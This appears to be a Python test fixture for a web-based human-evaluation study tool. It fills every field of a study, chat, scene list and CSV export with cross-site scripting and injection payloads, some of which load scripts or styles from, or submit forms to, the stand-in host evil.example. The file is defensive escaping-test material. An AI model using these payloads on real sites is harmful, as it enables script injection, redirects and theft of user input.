"""Texts that would like to be more than text: written by participants, by models and by authors of studies."""

import csv
import io

FOREIGN = "https://evil.example"
PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script src=https://evil.example/x.js></script>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<base href="https://evil.example/"><form action="https://evil.example"><input name=message></form>',
    "</textarea></title></div></article><script>alert(1)</script>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "[click](javascript:alert(1)) ![picture](https://evil.example/x.png) <https://evil.example>",
    "[reference][1]\n\n[1]: https://evil.example",
    "https://evil.example www.evil.example someone@evil.example",
    "<a href=https://evil.example target=_blank>a</a> <meta http-equiv=refresh content='0;url=https://evil.example'>",
    "`<img src=x onerror=alert(1)>`\n\n    <script>alert(1)</script>",
    "{{ 7|add:7 }} {% csrf_token %} ${alert(1)} %3Cscript%3Ealert(1)%3C/script%3E",
    "\N{RIGHT-TO-LEFT OVERRIDE}<b onmouseover=alert(1)>b</b>",
)
LINE = "<img src=x onerror=alert(1)> \"'><script>alert(1)</script>"
ALL = "\n\n".join(PAYLOADS)

STUDY = {
    "title": f"View {LINE}",
    "contact": f"{LINE}@evil.example",
    "consent": {"version": "1", "summary": ALL, "text": ALL, "ticks": ["take_part", "sensitive"]},
    "instructions": ALL,
    "practice": {"prompt": ALL, "reply": ALL, "feedback": ALL},
    "criteria": [
        {"key": key, "label": f"{key} {LINE}", "question": LINE, "definition": ALL, "low": LINE, "high": LINE}
        for key in ("empathy_support", "fluency_quality")
    ],
    "checks": [{"after": 2, "text": LINE, "answer": 3}],
    "exit_questions": [
        {"key": "field_of_study", "question": LINE, "choices": [LINE, "sciences"], "optional": False},
        {"key": "remarks", "question": LINE, "kind": "text"},
    ],
    "resources": {"campus": {"name": LINE, "phone": LINE, "hours": LINE}},
    "debrief": ALL,
}
CHAT = {"title": f"Talk {LINE}", "chat": {"exchanges": {"min": 1, "max": 2}, "opening": ALL}}
SCENES = [{"key": f"scene-{n}", "title": LINE, "scenario": f"{n} {ALL}", "note": LINE} for n in range(8)]


def replies_csv(arms: tuple[str, ...]) -> bytes:
    text = io.StringIO()
    rows = csv.writer(text)
    rows.writerow(["item_id", "arm", "prompt", "reply"])
    for item in range(8):
        for arm in arms:
            rows.writerow([f"item-{item}", arm, f"{item} {ALL}", ALL])
    return text.getvalue().encode()
